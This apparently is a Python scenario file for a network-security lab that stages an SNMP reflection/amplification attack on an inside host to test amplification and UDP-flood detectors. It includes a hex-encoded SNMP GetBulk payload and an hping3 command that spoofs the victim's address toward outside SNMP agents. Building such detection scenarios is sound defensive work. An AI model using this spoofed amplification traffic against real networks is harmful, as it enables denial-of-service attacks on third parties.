"""SNMP amplification, seen at the victim."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

# RFC 3416 section 4.2.3: version 2c, community public, GetBulk of 1.3.6.1.2.1 with 40 repetitions.
QUESTION = bytes.fromhex(
    "3026 020101 0406 7075626c6963 a519 020412345678 020100 020128 300b 3009 0605 2b06010201 0500"
)


def run(net: Range) -> None:
    attacker = net.outside("attacker")
    agents = [net.outside("agent1"), net.outside("agent2")]
    victim = net.inside("pc3")
    for agent in agents:
        servers.agent(agent)
    net.everyday()
    question = attacker.folder / "question"
    question.write_bytes(QUESTION)
    with net.attack(
        "amplification",
        by=agents,
        attackers=[],
        victims=[victim],
        attacker_known=False,
        others={"reflector": agents, "claimed": [victim]},
        also=["udp-flood"],
        frames=f"dst host {victim.ip} and (udp and src port 161 or ip[6:2] & 0x3fff != 0)",
        responses=f"icmp and src host {victim.ip}",
    ):
        words = f"hping3 -q -2 --spoof {victim.ip} -p 161 -d {len(QUESTION)} -E {question} -i u40000 -c 60"
        for agent in agents:
            net.tool(attacker, *words.split(), agent.ip)
    net.quiet(2)


SCENARIO = Scenario(
    name="amplification-snmp-victim",
    about="hping3 asks two outside SNMP agents for 40 values at once; an inside host gets the answers.",
    detectors=("amplification",),
    tools={"hping3": "hping3", "snmpd": "snmpd"},
    run=run,
)
